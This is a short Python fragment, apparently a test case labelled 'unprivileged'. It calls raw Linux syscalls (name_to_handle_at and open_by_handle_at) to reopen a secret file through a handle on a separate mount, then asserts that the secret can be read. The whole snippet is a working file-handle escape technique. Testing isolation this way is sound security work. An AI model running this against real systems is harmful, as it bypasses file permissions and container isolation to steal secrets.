# void: unprivileged
h=ctypes.create_string_buffer(struct.pack('Ii',128,0)+bytes(128)); m=ctypes.c_int()
syscall(303, -100, E['SECRET_FILE'].encode(), h, ctypes.byref(m), 0)
mount=os.open(E['WRITE'], os.O_RDONLY)
fd=syscall(304, mount, h, 0); assert SECRET in os.read(fd,100).decode()
